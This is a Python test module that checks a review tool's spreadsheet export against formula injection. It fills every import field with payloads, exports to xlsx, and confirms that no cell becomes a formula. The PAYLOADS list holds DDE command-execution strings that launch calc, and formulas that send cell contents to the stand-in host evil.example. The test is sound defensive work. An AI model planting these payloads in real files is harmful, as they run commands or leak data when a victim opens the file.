"""Formula injection: the classic payloads in every text field an import can fill, exported to the
workbook, and not one cell of it a formula (issue 15's reliability suite).

:func:`poisoned` writes an exchange file of the demo review with a payload of :data:`PAYLOADS` in each
field of :data:`FIELDS` (the ``curator/1`` fields that hold free text, and the exporting reviewer's
name), turn ``turn`` giving field ``j`` payload ``(turn + j) % len(PAYLOADS)``, so that
``len(PAYLOADS)`` turns put every payload in every field. :func:`try_turn` imports one, exports it to
xlsx and reads the workbook back: no cell is a formula (openpyxl's ``data_type`` is never ``"f"``, no
sheet's XML has an ``<f>``), and each payload is in the workbook as the literal text. The test runs two
turns; ``benchmarks/reliability_long.py`` runs them all.
"""

from __future__ import annotations

import json
import re
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

#: What spreadsheet programs run or follow: formulas, DDE, links, and the same behind white space.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=SUM(A1:A2)",
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-cmd|'/c calc'!A1",
    "@cmd|'/c calc'!A1",
    "=2+5+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1"',
)

#: Where a payload goes: (a name for the report, where in the exchange file). ``reviewer`` is the name
#: the export is made under (the About sheet's "Exported by").
FIELDS = (
    "title",
    "references[].title",
    "references[].authors[]",
    "references[].journal",
    "references[].volume",
    "references[].issue",
    "references[].pages",
    "references[].pmid",
    "references[].pmcid",
    "references[].doi",
    "references[].url",
    "references[].note",
    "comparisons[].title",
    "comparisons[].intervention",
    "comparisons[].comparator",
    "comparisons[].note",
    "rows[].endpoint",
    "rows[].unit",
    "rows[].finding",
    "rows[].duration",
    "rows[].population",
    "rows[].source.location",
    "rows[].source.quote",
    "rows[].extracted_by",
    "rows[].verified_by",
    "rows[].note",
    "rows[].intervention.text",
    "rows[].comparator.text",
    "rows[].effect.versus",
    "accepted_findings[].reason",
    "accepted_findings[].by",
    "reviewer",
)


def payload_of(turn: int, field: str) -> str:
    return PAYLOADS[(turn + FIELDS.index(field)) % len(PAYLOADS)]


def _put(data: dict[str, Any], field: str, text: str) -> None:
    """``text`` in ``field`` of the first of each list (a reference, a comparison, its first row)."""
    parts = field.replace("[]", "").split(".")
    if parts[0] == "rows":
        target: Any = data["comparisons"][0]["rows"][0]
        parts = parts[1:]
    elif parts[0] in ("references", "comparisons", "accepted_findings"):
        target = data[parts[0]][0]
        parts = parts[1:]
    else:
        target = data
    for name in parts[:-1]:
        target = target.setdefault(name, {})
    target[parts[-1]] = [text, *target.get(parts[-1], [])[1:]] if field.endswith("[]") else text


def poisoned(sound: Path, out: Path, turn: int) -> Path:
    """The exchange file ``sound`` (the demo review's) with turn ``turn``'s payloads in every field."""
    data = json.loads(sound.read_text(encoding="utf-8"))
    data.pop("x-audit-head", None)
    data.setdefault("references", [{}])[0].setdefault("authors", ["Family, Given"])
    data["accepted_findings"] = [
        {"rule": "grim-percent", "comparison": data["comparisons"][0]["key"], "row": 0, "reason": "", "by": ""}
    ]
    effect = data["comparisons"][0]["rows"][0].setdefault("effect", {"measure": "RR", "value": "1.2"})
    effect.setdefault("versus", "")
    for field in FIELDS:
        if field != "reviewer":
            _put(data, field, payload_of(turn, field))
    out.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return out


#: How a workbook writes a character XML cannot hold (a carriage return: ``_x000D_``); Excel reads it
#: back as the character, openpyxl leaves inline strings as written.
_OOXML_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


@dataclass(frozen=True)
class Turn:
    turn: int
    #: Cells read back, and how many of them were formulas (must be none).
    cells: int
    formulas: int
    seconds: float
    #: What went wrong: a formula, a payload not in the workbook as its text, a failed import or export.
    problems: tuple[str, ...]


def try_turn(folder: Path, sound: Path, turn: int) -> Turn:
    """Import turn ``turn``'s poisoned file into a new review, export it to xlsx and read it back."""
    from tests.reliability.kills import quietly

    start = time.perf_counter()
    source = poisoned(sound, folder / f"poisoned-{turn}.json", turn)
    review, book = folder / f"poisoned-{turn}.sqlite", folder / f"poisoned-{turn}.xlsx"
    for path in (review, book):
        path.unlink(missing_ok=True)
    problems: list[str] = []
    code, said = quietly("import", str(review), str(source))
    if code != 0:
        return Turn(turn, 0, 0, time.perf_counter() - start, (f"import exit {code}: {said.strip()[:300]}",))
    code, said = quietly(f"--reviewer={payload_of(turn, 'reviewer')}", "export", str(review), "-o", str(book))
    if code != 0:
        return Turn(turn, 0, 0, time.perf_counter() - start, (f"export exit {code}: {said.strip()[:300]}",))
    cells, formulas, texts, found = read_back(book)
    problems += found
    whole = "\n".join(texts)
    for field in FIELDS:
        text = payload_of(turn, field)
        if text not in whole:
            problems.append(f"{field}: {text!r} is not in the workbook as its text")
    return Turn(turn, cells, formulas, time.perf_counter() - start, tuple(problems))


def read_back(book: Path) -> tuple[int, int, list[str], list[str]]:
    """A workbook's cells that hold something, how many are formulas, their texts (as Excel reads
    them), and a line for each formula (as openpyxl reads it, and any ``<f>`` in a sheet's XML)."""
    import openpyxl

    texts: list[str] = []
    problems: list[str] = []
    cells = formulas = 0
    for sheet in openpyxl.load_workbook(book).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                cells += 1
                if cell.data_type == "f":
                    formulas += 1
                    problems.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str):
                    texts.append(_OOXML_ESCAPE.sub(lambda m: chr(int(m[1], 16)), cell.value))
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", z.read(name)):
                problems.append(f"{name} holds a formula element")
    return cells, formulas, texts, problems
